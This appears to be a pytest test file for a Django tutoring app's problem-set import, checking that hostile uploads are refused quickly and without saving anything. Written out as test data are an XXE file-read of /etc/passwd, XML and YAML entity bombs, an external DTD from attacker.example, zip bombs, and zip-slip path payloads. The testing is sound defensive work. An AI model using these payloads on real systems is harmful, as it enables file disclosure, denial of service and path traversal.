"""Hostile files are refused with a clear message, quickly, in little memory, and save nothing."""

from __future__ import annotations

import struct
import time
import tracemalloc
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests.conftest import Personas
from tests.problems.helpers import zip_of
from tutor.problems.models import Problem, ProblemSet
from tutor.problems.services import problem_set_import

pytestmark = pytest.mark.django_db

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="numerical"><name><text>&xxe;</text></name><questiontext><text>x</text></questiontext>
<answer fraction="100"><text>1</text></answer></question></quiz>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>
<quiz><question type="shortanswer"><name><text>&lol9;</text></name></question></quiz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd"><quiz></quiz>"""

# YAML's billion laughs: aliases expand to 10**9 strings once the answer is printed.
YAML_LAUGHS = (
    b"a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + b"".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n".encode() for i in range(8)
    )
    + b"problems:\n  - statement: hi\n    answer: *i\n"
)


def lying_zip() -> bytes:
    """A zip whose headers say its member is 1 kB when it really unpacks to 3 MB (ratio ~100:1 as declared)."""
    data = bytearray(zip_of({"big.csv": b"key,statement\n" + b"q,x\n" * (3 * 1024 * 1024 // 4)}))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    compressed = struct.unpack_from("<I", data, local + 18)[0]
    fake = compressed * 50
    struct.pack_into("<I", data, local + 22, fake)
    struct.pack_into("<I", data, central + 24, fake)
    return bytes(data)


HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    ("xxe.xml", lambda: XXE, "refused because it declares a DTD"),
    ("laughs.xml", lambda: LAUGHS, "refused because it declares a DTD"),
    ("external.xml", lambda: EXTERNAL_DTD, "refused because it declares a DTD"),
    ("laughs.yaml", lambda: YAML_LAUGHS, "anchors and aliases"),
    ("deep.yaml", lambda: b"problems: " + b"[" * 200_000 + b"]" * 200_000, "nested more than 20 levels"),
    ("deep.json", lambda: b'{"problems": ' + b"[" * 200_000 + b"]" * 200_000 + b"}", "nested too deeply"),
    ("bomb.zip", lambda: zip_of({"big.csv": b"0" * (9 * 1024 * 1024)}), "zip bomb"),
    (
        "huge.zip",
        lambda: zip_of({f"f{i}.csv": b"0" * (1024 * 1024) for i in range(12)}),
        "would unpack to 12 MB; the limit is 10 MB",
    ),
    ("liar.zip", lying_zip, "can't be unpacked"),
    ("slip.zip", lambda: zip_of({"../../evil.csv": b"key,statement\nq,x\n"}), "unsafe path (../../evil.csv)"),
    ("abs.zip", lambda: zip_of({"/etc/cron.d/evil.csv": b"statement\nx\n"}), "unsafe path"),
    (
        "nested.zip",
        lambda: zip_of({"inner.zip": zip_of({"a.csv": b"statement\nx\n"})}),
        "zip files inside zip",
    ),
    ("crowd.zip", lambda: zip_of({f"{i}.csv": b"statement\nx\n" for i in range(51)}), "the limit is 50"),
    ("notzip.zip", lambda: b"PK\x03\x04 definitely not a zip", "isn't a readable zip"),
    ("big.csv", lambda: b"key,statement,answer\n" + b"q,x,1\n" * 400_000, "the limit is 2 MB"),
    (
        "many.csv",
        lambda: b"key,statement,answer\n" + b"".join(f"q{i},Solve,1\n".encode() for i in range(600)),
        "line 502: the file has more than 500 problems",
    ),
    ("latin1.csv", lambda: "key,statement\nq,caf\xe9\n".encode("latin-1"), "isn't UTF-8"),
    ("nul.csv", lambda: b"key,statement\nq,a\x00b\n", "NUL characters"),
    ("wide.csv", lambda: b"key,statement\nq," + b"x" * 200_000 + b"\n", "line 2: can't be read"),
    ("payload.exe", lambda: b"MZ\x90\x00", "use .yaml, .json, .csv"),
]


@pytest.mark.parametrize(("name", "make", "words"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_uploads_are_refused_quickly_and_cheaply(
    personas: Personas, name: str, make: Callable[[], bytes], words: str
) -> None:
    data = make()
    sets_before, problems_before = ProblemSet.objects.count(), Problem.objects.count()
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = problem_set_import(owner=personas.teacher, filename=name, data=data)
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert not result.ok
    messages = [str(e) for e in result.errors]
    assert any(words in m for m in messages), messages
    assert all(m.startswith(name) for m in messages), messages
    assert elapsed < 3, f"{elapsed:.1f} s"
    assert peak < 48 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
    assert (ProblemSet.objects.count(), Problem.objects.count()) == (sets_before, problems_before)


def test_xxe_never_reads_the_file(personas: Personas) -> None:
    result = problem_set_import(owner=personas.teacher, filename="xxe.xml", data=XXE)
    assert "root:" not in " ".join(str(e) for e in result.errors)


def test_an_oversize_upload_is_refused_before_it_is_read(personas: Personas) -> None:
    teacher = Client()
    teacher.force_login(personas.teacher)
    body = b"key,statement,answer\n" + b"q,x,1\n" * 600_000  # 3.6 MB
    response = teacher.post(reverse("problem_set_upload"), {"file": SimpleUploadedFile("big.csv", body)})
    assert response.status_code == 413
    assert "larger than 2 MB, the limit for one upload" in response.content.decode()
    assert not ProblemSet.objects.filter(key="big").exists()


def test_an_upload_just_over_the_limit_is_stopped_while_streaming(personas: Personas) -> None:
    # Within the slack allowed for multipart headers, so only the streaming limit catches it.
    teacher = Client()
    teacher.force_login(personas.teacher)
    body = b"key,statement,answer\n" + b"q,x,1\n" * (2 * 1024 * 1024 // 6 + 2000)
    response = teacher.post(reverse("problem_set_upload"), {"file": SimpleUploadedFile("edge.csv", body)})
    assert response.status_code == 413
    assert "larger than 2 MB" in response.content.decode()


def test_the_command_refuses_big_files_too(personas: Personas, tmp_path) -> None:
    from django.core.management import CommandError, call_command

    path = tmp_path / "big.csv"
    path.write_bytes(b"key,statement,answer\n" + b"q,x,1\n" * 400_000)
    with pytest.raises(CommandError, match="1 problem"):
        call_command("import_problems", str(path), owner=personas.teacher.username)
